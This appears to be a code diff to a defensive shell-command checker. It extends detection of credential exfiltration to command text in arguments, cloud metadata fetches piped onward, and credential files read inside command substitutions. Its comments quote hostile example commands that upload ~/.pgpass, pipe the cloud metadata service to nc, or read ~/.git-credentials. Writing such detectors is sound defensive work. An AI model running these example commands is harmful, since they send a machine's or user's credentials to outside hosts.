@@ -18,7 +18,7 @@ import { programForms } from '../programs/table';
 import type { Form } from '../programs/row';
 import { hardlineFinding, type HardlineFinding } from './arms';
 import { commandName, literalText } from './commandName';
-import { credentialKind, isNetworkDevicePath, wordPathText } from './paths';
+import { credentialKind, isNetworkDevicePath, namesCloudMetadata, wordPathText } from './paths';
 import { landingPaths, type PathPlace } from '../programs/pathResolver';
 import { readTextCommands } from './textCommands';
 
@@ -259,6 +259,15 @@ function sentWords(reading: SinkReading, args: readonly Word[], skipAuth = false
 function credentialInWord(word: Word, place: PathPlace): string | null {
   const text = wordPathText(word);
   if (text === '' || text.includes('://')) return null;
+  // Command text (`lftp -e 'put ~/.pgpass; bye'`, `smbclient -c 'put …'`): each of its words.
+  if (/[\s;]/.test(text) && text.length <= MAX_COMMAND_TEXT) {
+    for (const part of text.split(/[\s;]+/)) {
+      if (part === '' || part === text) continue;
+      const found = credentialInWord({ kind: 'literal', value: part, raw: part }, place);
+      if (found !== null) return found;
+    }
+    return null;
+  }
   let found = credentialAt(text, place);
   if (found !== null) return found;
   const at = text.lastIndexOf('@');
@@ -269,6 +278,9 @@ function credentialInWord(word: Word, place: PathPlace): string | null {
   if (colon !== -1 && (found = credentialAt(upTo(text.slice(colon + 1), ','), place)) !== null) return found;
   return credentialAt(upTo(text, ','), place);
 }
+
+/** Longest word read as command text for the credentials it names. */
+const MAX_COMMAND_TEXT = 4096;
 
 /** The text before the first `separator` (all of it when there is none): `split(separator)[0]`. */
 function upTo(text: string, separator: string): string {
@@ -353,9 +365,16 @@ function sourceOf(command: PipelineCommand): string | null {
  */
 export function checkExfiltration(pipeline: readonly PipelineCommand[], home: string, openSocket = false): HardlineFinding | null {
   let sink: string | null = null;
-  for (const command of pipeline) {
-    sink = sinkName(command);
-    if (sink !== null) break;
+  let sinkAt = -1;
+  let sinks = 0;
+  for (let k = 0; k < pipeline.length; k++) {
+    const name = sinkName(pipeline[k]!);
+    if (name === null) continue;
+    sinks++;
+    if (sink === null) {
+      sink = name;
+      sinkAt = k;
+    }
   }
   // Most pipelines send nothing anywhere; only then are their words read for credentials.
   if (sink === null) return null;
@@ -363,7 +382,21 @@ export function checkExfiltration(pipeline: readonly PipelineCommand[], home: st
     const source = sourceOf(command);
     if (source !== null) return hardlineFinding('credential-exfiltration', `${source} goes to ${sink}`);
   }
+  // The cloud metadata service hands out this machine's credentials: what is fetched from it and
+  // goes on to another sink of the unit (`curl 169.254.169.254/… | nc h 1`) leaves with them. Asking
+  // it alone is everyday work.
+  for (let k = 0; k < pipeline.length; k++) {
+    if (!asksMetadata(pipeline[k]!)) continue;
+    if (sinks > 1 || (sinks === 1 && sinkAt !== k) || openSocket) return hardlineFinding('credential-exfiltration', `the machine's cloud credentials (from the metadata service) go to ${sink}`);
+  }
   return printedSecretJoined(pipeline, home, openSocket);
+}
+
+/** A command that names a cloud metadata address in its words. */
+function asksMetadata(command: PipelineCommand): boolean {
+  const argv = command.peeled.argv;
+  for (let k = 1; k < argv.length; k++) if (namesCloudMetadata(wordPathText(argv[k]!))) return true;
+  return false;
 }
 
 /**
@@ -408,7 +441,9 @@ function printedSecretJoined(pipeline: readonly PipelineCommand[], home: string,
       if (word.raw.length > budget) continue;
       budget -= word.raw.length;
       for (const inner of readTextCommands(word.raw, home)) {
-        const source = printedSecret(peelWrappers(inner.argv));
+        const peeledInner = peelWrappers(inner.argv);
+        // A secret printed (`$(gh auth token)`) or a credential file read (`$(head ~/.git-credentials)`) inside it.
+        const source = printedSecret(peeledInner) ?? sourceOf({ peeled: peeledInner, redirects: inner.redirects, pipedFrom: -1, place: command.place });
         if (source !== null) return hardlineFinding('credential-exfiltration', `${source} goes to ${sink}`);
       }
     }
